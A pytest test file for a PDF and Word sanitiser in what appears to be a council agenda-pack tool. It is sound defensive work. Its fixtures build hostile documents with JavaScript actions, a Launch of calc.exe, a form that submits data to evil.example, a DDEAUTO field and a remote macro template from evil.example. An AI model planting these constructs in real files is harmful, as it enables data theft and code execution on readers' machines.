"""The sanitising rules on their own: ``packs.sanitise`` (PDF) and ``packs.sanitise_word`` (.docx).

Hostile files are made here (tests/hostile_files.py) with ReportLab, pikepdf and python-docx.
What comes out is read back independently: qpdf lists every object of the PDF with every
stream's data (``forbidden_in``), pdftotext reads its pages; a cleaned .docx is opened as a zip
and by python-docx. Hostile structure (cycles, broken references, huge arrays, names spelt with
#-escapes) must be cleaned or refused within seconds, never hang or pass half-checked.
"""

from __future__ import annotations

import io
import random
import re
import shutil
import subprocess
import time
import zipfile
from pathlib import Path

import docx
import pikepdf
import pytest
from conftest import marked_pdf
from hostile_files import (HOSTILE_WORDS, LOCAL_LINK, WEB_LINK, forbidden_in, hostile_pdf, linked_docx, links_in,
                           picture, runnable_in, tangled_pdf)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String

from cpo_desktop.packs.removed import SanitiseError
from cpo_desktop.packs.sanitise import sanitise, sanitise_bytes
from cpo_desktop.packs.sanitise_word import clean_docx

pytestmark = pytest.mark.skipif(not all(shutil.which(t) for t in ("qpdf", "pdftotext")), reason="needs qpdf and poppler")


def pdf_text(path: Path) -> str:
    return subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout


def cleaned(tmp_path: Path, data: bytes, name: str = "out.pdf", **options):
    out, removed = sanitise_bytes(data, **options)
    path = tmp_path / name
    path.write_bytes(out)
    return path, removed


def one_page(**root) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    for key, value in root.items():
        pdf.Root[f"/{key}"] = value
    return pdf


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


# --- the hostile paper -------------------------------------------------------------------------------

def test_a_hostile_paper_comes_out_with_nothing_that_runs_or_carries_files(tmp_path):
    source = hostile_pdf(tmp_path / "hostile.pdf", "HOSTILE", 2)
    before = forbidden_in(source)
    # positive control: the check finds every kind of thing in the paper as made
    for what in ("/OpenAction", "/AA in", "/Launch", "/JavaScript", "/EmbeddedFile", "/FileAttachment", "/XFA",
                 f"link to {LOCAL_LINK}", "EMBEDDED-PAYLOAD", "ATTACHED-PAYLOAD", "script text"):
        assert any(what in f for f in before), what

    path, removed = cleaned(tmp_path, source.read_bytes())
    assert forbidden_in(path) == []
    assert removed.words == ", ".join(HOSTILE_WORDS[:-1]) + " and " + HOSTILE_WORDS[-1]
    assert removed.words.startswith("2 scripts that ran when the file opened, a script that ran when a page opened, ")
    # the pages themselves are all there, and the web link stays
    text = pdf_text(path)
    assert "PAPER-HOSTILE-P1" in text and "PAPER-HOSTILE-P2" in text
    assert links_in(path) == [WEB_LINK]
    with pikepdf.open(path) as pdf:
        assert len(pdf.pages) == 2
        assert [str(a.Subtype) for a in pdf.pages[0].Annots] == ["/Link", "/Link", "/Link", "/Widget"]
    check = subprocess.run(["qpdf", "--check", str(path)], capture_output=True, text=True)
    assert check.returncode == 0, check.stdout


def test_a_clean_paper_comes_back_byte_for_byte(tmp_path):
    data = marked_pdf(tmp_path / "plain.pdf", "PLAIN", 2).read_bytes()
    assert sanitise_bytes(data) == (data, sanitise_bytes(data)[1])
    assert not sanitise_bytes(data)[1]
    # web and e-mail links, bookmarks, and opening on a page of the file all stay
    pdf = pikepdf.open(io.BytesIO(data))
    page = pdf.pages[1].obj
    pdf.Root.OpenAction = Array([page, Name.Fit])
    page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9],
                                    A=Dictionary(S=Name.URI, URI=String(u))) for u in
                         ("https://www.gov.uk/", "http://example.org/a b", "MAILTO:pat.officer@example.org")]
                        + [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9],
                                      A=Dictionary(S=Name.Named, N=Name.NextPage))])
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Second page", 1))
    linked = saved(pdf)
    assert sanitise_bytes(linked)[0] is linked


def test_a_tagged_papers_structure_stays_untouched(tmp_path):
    """Accessible (tagged) PDFs: structure elements have an /S (their kind: "/P", "/Link") and an
    /A (their attributes), which are not actions."""
    pdf = one_page()
    page = pdf.pages[0].obj
    link = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], StructParent=0,
                                        A=Dictionary(S=Name.URI, URI=String("https://www.gov.uk/"))))
    page.Annots = Array([link])
    root = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    para = pdf.make_indirect(Dictionary(S=Name.P, P=root, Pg=page, K=0,
                                        A=Dictionary(O=Name.Layout, Placement=Name.Block, SpaceAfter=6)))
    cell = pdf.make_indirect(Dictionary(S=Name.TD, P=root, K=1,
                                        A=Array([Dictionary(O=Name.Table, Scope=Name.Column), 0])))
    link_element = pdf.make_indirect(Dictionary(S=Name.Link, P=root, Pg=page,
                                                K=Dictionary(Type=Name.OBJR, Obj=link)))
    sound = pdf.make_indirect(Dictionary(S=Name.Sound, P=root, K=2))  # a custom kind named like an action
    root.K = Array([para, cell, link_element, sound])
    pdf.Root.StructTreeRoot = root
    pdf.Root.MarkInfo = Dictionary(Marked=True)
    data = saved(pdf)
    assert sanitise_bytes(data)[0] is data


@pytest.mark.parametrize("action, words", [
    (Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])), "a link that opens another file"),
    (Dictionary(S=Name.GoToE, D=Array([0, Name.Fit])), "a link that opens another file"),
    (Dictionary(S=Name.Thread, F=String("other.pdf"), D=0), "a link that opens another file"),
    (Dictionary(S=Name.ImportData, F=String("data.fdf")), "an action that reads in data from another file"),
    (Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect"))),
     "a form button that sends the form's data away"),
    (Dictionary(S=Name.ResetForm), "a form button that clears the form"),
    (Dictionary(S=Name.Hide, T=String("field")), "an action that hides parts of a page"),
    (Dictionary(S=Name.Rendition, OP=0), "an action that plays sound, video or 3D"),
    (Dictionary(S=Name.Sound), "an action that plays sound, video or 3D"),
    (Dictionary(S=Name.Movie), "an action that plays sound, video or 3D"),
    (Dictionary(S=Name.Named, N=Name.Print), "an action that works the reader's menus"),
    (Dictionary(S=Name.URI, URI=String("javascript:alert(1)")), "a link to an address that is not a web page"),
    (Dictionary(S=Name.URI, URI=String("\\\\fileserver\\share\\report.doc")),
     "a link to an address that is not a web page"),
    (Dictionary(S=Name.URI, URI=String("smb://fileserver/share")), "a link to an address that is not a web page"),
    (Dictionary(S=Name.Launch, F=String("calc.exe")), "a link that starts a program"),
    (Dictionary(S=Name("/Exotic")), "an action of an unknown kind"),
    (Dictionary(S=Name.SetOCGState, State=Array([Name.Toggle]),
                Next=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))), "a script behind a link"),
])
def test_each_kind_of_link_action_goes_and_is_named(tmp_path, action, words):
    pdf = one_page()
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)])
    path, removed = cleaned(tmp_path, saved(pdf))
    assert removed.words.startswith(words)
    assert forbidden_in(path) == []
    with pikepdf.open(path) as out:
        a = out.pages[0].Annots[0].get("/A")
        # what stays of a link is at most a harmless first step (the SetOCGState, without its script)
        assert a is None or (a.S == Name.SetOCGState and "/Next" not in a)


def test_opening_actions_other_than_showing_a_page_of_the_file_go(tmp_path):
    pdf = one_page()
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://tracker.example/opened"))
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert('closing')")))
    path, removed = cleaned(tmp_path, saved(pdf))
    assert removed.words == "a script that ran when the file opened and an action that ran by itself when the file opened"
    with pikepdf.open(path) as out:
        assert "/OpenAction" not in out.Root and "/AA" not in out.Root
    # a bookmark that runs a script, an associated file, media and 3D annotations
    pdf = one_page()
    page = pdf.pages[0].obj
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("data.xml"),
                                        EF=Dictionary(F=pdf.make_stream(b"<data/>", Type=Name.EmbeddedFile))))
    page.AF = Array([spec])
    page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name(s), Rect=[0, 0, 9, 9]) for s in
                         ("/RichMedia", "/3D", "/Screen", "/Sound", "/Movie")])
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Run me", 0))
    pdf.Root.Outlines.First.A = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Collection = Dictionary(View=Name.D)
    path, removed = cleaned(tmp_path, saved(pdf))
    assert removed.words == "a script behind a bookmark, an embedded file and 5 sound, video or 3D objects"
    assert forbidden_in(path) == []
    with pikepdf.open(path) as out:
        assert "/Annots" not in out.pages[0] or len(out.pages[0].Annots) == 0
        assert "/Collection" not in out.Root


# --- hostile structure ---------------------------------------------------------------------------------

def test_cycles_and_broken_references_are_cleaned_without_hanging(tmp_path):
    pdf = one_page()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    web = pdf.make_indirect(Dictionary(S=Name.URI, URI=String("https://example.org/"), Next=script))
    script.Next = web  # a chain of actions that runs for ever
    loop = pdf.make_indirect(Array([]))
    loop.append(loop)  # an array that holds itself
    node = pdf.make_indirect(Dictionary(Names=Array([String("x"), script])))
    node.Kids = Array([node])  # a name tree whose node is its own child
    pdf.Root.Loop = loop
    pdf.Root.Names = Dictionary(JavaScript=node)
    pdf.Root.Me = pdf.Root  # the catalogue inside itself
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=web)])
    data = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    data = data.replace(b"/Loop", b"/Broken 9999 0 R /Loop", 1)  # a reference to no object
    started = time.perf_counter()
    path, removed = cleaned(tmp_path, data)
    assert time.perf_counter() - started < 5
    assert "a script that ran when the file opened" in removed.words
    assert forbidden_in(path) == []
    assert links_in(path) == ["https://example.org/"]


def test_names_spelt_with_escapes_are_read_as_names(tmp_path):
    pdf = one_page()
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    data = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    data = data.replace(b"/OpenAction", b"/Open#41ction").replace(b"/JavaScript", b"/Java#53cript").replace(
        b"/JS", b"/J#53")
    assert b"/JS" not in data and b"/OpenAction" not in data
    path, removed = cleaned(tmp_path, data)
    assert removed.words == "a script that ran when the file opened"
    assert forbidden_in(path) == []


def test_huge_or_tangled_files_are_refused_within_the_bound(tmp_path):
    # two million numbers in one array (made as the file's text: quicker than through pikepdf)
    pdf = one_page(Junk=pikepdf.Name.Placeholder)
    data = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    data = data.replace(b"/Placeholder", b"[" + b" ".join(b"%d" % n for n in range(2_000_000)) + b"]")
    started = time.perf_counter()
    assert sanitise_bytes(data)[0] is data
    assert time.perf_counter() - started < 30
    # past the bound, refused rather than passed on half-checked (a small bound, to keep this quick)
    pdf = one_page()
    pdf.Root.Many = Array([pdf.make_indirect(Dictionary(N=i)) for i in range(20_000)])
    with pytest.raises(SanitiseError, match="more than 10,000 objects"):
        sanitise_bytes(saved(pdf), limit=10_000)
    pdf = one_page()
    pdf.pages[0].obj.Annots = Array([Dictionary(Subtype=Name.Link, Rect=[0, 0, 1, 1])] * 50_000)
    with pytest.raises(SanitiseError, match="too tangled"):
        sanitise_bytes(saved(pdf), limit=10_000)


@settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(seed=st.integers(0, 2**32 - 1))
def test_randomly_tangled_files_come_out_with_nothing_that_runs(seed):
    data = tangled_pdf(random.Random(seed))
    with pikepdf.open(io.BytesIO(data)) as before:
        hostile = bool(runnable_in(before))
    try:
        out, removed = sanitise_bytes(data)
    except SanitiseError:
        return  # refused: never passed on half-checked
    with pikepdf.open(io.BytesIO(out)) as after:
        assert runnable_in(after) == []
    assert removed.changed or not hostile
    assert (out is data) == (not removed.changed)


def test_sanitise_changes_the_document_in_place_and_a_second_pass_finds_nothing(tmp_path):
    with pikepdf.open(hostile_pdf(tmp_path / "h.pdf", "H", 1)) as pdf:
        assert sanitise(pdf)
        assert not sanitise(pdf)


# --- Word papers -------------------------------------------------------------------------------------

RELS = re.compile(rb"<Relationship [^>]*>")


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n) for n in z.namelist()}


def test_a_word_paper_loses_its_linked_pictures_and_fetching_fields_and_keeps_its_text(tmp_path):
    red, blue = picture(tmp_path / "red.png", (200, 30, 30)), picture(tmp_path / "blue.png", (30, 30, 200))
    source = linked_docx(tmp_path / "linked.docx", [(red, "http://127.0.0.1:9/tracker.png"), (blue, blue.as_uri())],
                         key="LINKED", field_url="http://127.0.0.1:9/field.png")
    before = parts(source.read_bytes())
    assert b'TargetMode="External"' in before["word/_rels/document.xml.rels"]  # positive control
    assert b"INCLUDEPICTURE" in before["word/document.xml"] and b"r:link=" in before["word/document.xml"]

    data, removed = clean_docx(source.read_bytes())
    assert removed.words == ("2 pictures linked from outside the file and a field that fetches a picture "
                             "(INCLUDEPICTURE)")
    after = parts(data)
    assert set(after) == set(before)
    for name, content in after.items():
        if name.endswith(".rels"):
            assert b"External" not in content and b"127.0.0.1" not in content and b"file:" not in content, name
    body = after["word/document.xml"]
    assert b"INCLUDEPICTURE" not in body and b"r:link=" not in body and b"instrText" not in body
    assert b"fldChar" not in body
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)
    assert "LINKED before" in text and "LINKED after" in text and "LINKED field result" in text
    # nothing left to clean: the same bytes come back
    assert clean_docx(data)[0] is data
    plain = tmp_path / "plain.docx"
    document = docx.Document()
    document.add_paragraph("plain")
    document.save(plain)
    assert clean_docx(plain.read_bytes())[0] == plain.read_bytes() and not clean_docx(plain.read_bytes())[1]


def _with_parts(source: Path, edit) -> bytes:
    """The .docx at ``source`` with ``edit(parts)`` applied to its parts (a dict name -> bytes)."""
    contents = parts(source.read_bytes())
    edit(contents)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in contents.items():
            z.writestr(name, data)
    return out.getvalue()


def _rel(rid: str, kind: str, target: str, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'{kind}" Target="{target}"{mode}/>').encode()


def test_every_kind_of_outside_link_and_fetching_field_goes_from_a_word_paper(tmp_path):
    base = tmp_path / "base.docx"
    document = docx.Document()
    document.add_paragraph("KEEP this text")
    document.save(base)
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    r = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

    def edit(p: dict[str, bytes]) -> None:
        rels = "word/_rels/document.xml.rels"
        p[rels] = p[rels].replace(b"</Relationships>", b"".join([
            _rel("rIdWeb", "hyperlink", "https://www.gov.uk/"),
            _rel("rIdFile", "hyperlink", "file:///C:/Users/pat/secret.docx"),
            _rel("rIdChunk", "aFChunk", "\\\\server\\share\\part.docx", external=False),
            _rel("rIdSub", "subDocument", "http://intranet/sub.docx"),
            _rel("rIdOle", "oleObject", "file:///C:/data/book.xlsx"),
        ]) + b"</Relationships>")
        body = (f'<w:p {w} {r}><w:hyperlink r:id="rIdWeb"><w:r><w:t>web link</w:t></w:r></w:hyperlink>'
                f'<w:hyperlink r:id="rIdFile"><w:r><w:t>file link</w:t></w:r></w:hyperlink></w:p>'
                f'<w:altChunk {w} {r} r:id="rIdChunk"/>'
                f'<w:p {w} {r}><w:subDoc r:id="rIdSub"/></w:p>'
                f'<w:p {w}><w:fldSimple w:instr=" INCLUDETEXT &quot;c:\\\\secret.txt&quot; "><w:r><w:t>included '
                f'text</w:t></w:r></w:fldSimple></w:p>'
                f'<w:p {w}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO excel '
                f'"C:\\\\x.xlsx" "R1C1"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                f'<w:p {w}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK '
                f'"https://www.gov.uk/guidance"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                f'<w:r><w:t>guidance</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>').encode()
        p["word/document.xml"] = p["word/document.xml"].replace(b"<w:sectPr", body + b"<w:sectPr", 1)
        settings = "word/settings.xml"
        p[settings] = p[settings].replace(b"</w:settings>", (
            f'<w:attachedTemplate {r} r:id="rIdTpl"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
            f'<w:dataType w:val="odbc"/><w:query w:val="SELECT * FROM x"/></w:mailMerge></w:settings>').encode())
        p["word/_rels/settings.xml.rels"] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships">'
            + _rel("rIdTpl", "attachedTemplate", "https://evil.example/template.dotm") + b"</Relationships>")

    source = _with_parts(base, edit)
    data, removed = clean_docx(source)
    assert removed.words == (
        "a linked object (OLE link), a template stored outside the file, a linked subdocument, "
        "a part brought in from another file, a mail merge data source, a field that brings in another file (INCLUDETEXT), "
        "a field that asks another program for data (DDEAUTO) and a link to an address that is not a web page "
        "or e-mail")
    after = parts(data)
    assert b"rIdWeb" in after["word/_rels/document.xml.rels"]  # the web link stays…
    for gone in (b"rIdFile", b"rIdChunk", b"rIdSub", b"rIdOle"):
        assert gone not in after["word/_rels/document.xml.rels"]
        assert gone not in after["word/document.xml"]
    assert b"https://evil.example" not in after["word/_rels/settings.xml.rels"]
    assert b"attachedTemplate" not in after["word/settings.xml"] and b"mailMerge" not in after["word/settings.xml"]
    for code in (b"INCLUDETEXT", b"DDEAUTO", b"altChunk", b"subDoc"):
        assert code not in after["word/document.xml"]
    assert b"HYPERLINK" in after["word/document.xml"]  # …and so does a web link written as a field
    document = docx.Document(io.BytesIO(data))
    text = " ".join(p.text for p in document.paragraphs)
    assert "KEEP this text" in text and "included text" in text and "guidance" in text
    assert "web link" in text and "file link" in text  # a link's words stay; only where it pointed goes


def test_a_damaged_word_paper_is_refused_not_passed_on(tmp_path):
    with pytest.raises(SanitiseError):
        clean_docx(b"PK\x03\x04 not really a zip")
    base = tmp_path / "base.docx"
    docx.Document().save(base)

    def broken(p):
        p["word/_rels/document.xml.rels"] = b"<Relationships><unclosed"
    with pytest.raises(SanitiseError, match="damaged"):
        clean_docx(_with_parts(base, broken))


# --- the pack as assembled --------------------------------------------------------------------------

def test_the_assembled_pack_is_sanitised_as_a_whole(tmp_path):
    """What a paper's pages bring with them into a pack (its page's actions, its links, the form
    field behind a widget, a file attached to the page) is taken out of the finished pack; what
    stays behind in the paper's own catalogue (its opening script, its embedded files, its XFA
    form) never comes along."""
    import datetime as dt

    from cpo_desktop.model import privacy
    from cpo_desktop.packs.agenda_pack import PackDoc, PackItem, PackSpec, assemble

    paper = hostile_pdf(tmp_path / "hostile.pdf", "HOSTILE", 2)
    spec = PackSpec(council="Sefton Council", board="Sefton Corporate Parenting Board",
                    meeting_date=dt.date(2026, 12, 9), start_time=dt.time(14), venue="Bootle Town Hall", public=True,
                    items=[PackItem(number="5", title="Local Offer update",
                                    docs=[PackDoc(label="hostile.pdf", path=paper)])])
    assembled = assemble(privacy.scrub(spec, privacy.NameMasker()))  # a public spec, as the service makes it
    assert assembled.removed.words == (
        "a script that ran when a page opened, 2 scripts in form fields, a link that starts a program, a file "
        "attached to a page and a link to an address that is not a web page or e-mail")
    assembled.pdf.save(tmp_path / "pack.pdf")
    assert forbidden_in(tmp_path / "pack.pdf") == []
    assert WEB_LINK in links_in(tmp_path / "pack.pdf")
    text = pdf_text(tmp_path / "pack.pdf")
    assert "PAPER-HOSTILE-P1" in text and "PAPER-HOSTILE-P2" in text
